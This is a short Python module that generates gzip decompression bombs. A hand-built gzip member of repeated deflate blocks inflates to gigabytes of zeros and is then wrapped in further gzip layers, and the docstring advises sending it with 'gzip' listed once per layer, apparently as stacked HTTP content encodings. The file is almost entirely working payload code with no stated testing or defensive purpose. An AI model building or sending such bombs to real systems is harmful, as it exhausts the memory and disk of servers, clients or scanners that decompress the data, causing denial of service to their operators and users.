"""Decompression bombs, built in milliseconds: a gigabyte of zeros in a few kilobytes.

The innermost gzip member is assembled from one deflate block of zeros repeated (a full
flush makes every repeat byte-identical) with the true CRC and length, so it is a valid
stream that really inflates to ``size`` bytes; each further layer is plain gzip.
"""

from __future__ import annotations

import gzip
import struct
import zlib

__all__ = ["gzip_bomb"]

_BLOCK = 1 << 20  # 1 MiB of zeros per repeated deflate block


def _zeros_member(size: int) -> bytes:
    """One gzip member inflating to ``size`` zero bytes (``size`` a multiple of 1 MiB)."""
    blocks, rest = divmod(size, _BLOCK)
    if rest or not blocks:
        raise ValueError("size must be a positive multiple of 1 MiB")
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(_BLOCK)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc, size & 0xFFFFFFFF)
    return header + block * blocks + deflate.flush(zlib.Z_FINISH) + trailer


def gzip_bomb(size: int, *, layers: int) -> bytes:
    """``size`` zeros gzipped ``layers`` times over: send with ``gzip`` listed ``layers`` times."""
    data = _zeros_member(size)
    for _ in range(layers - 1):
        data = gzip.compress(data, compresslevel=9)
    return data
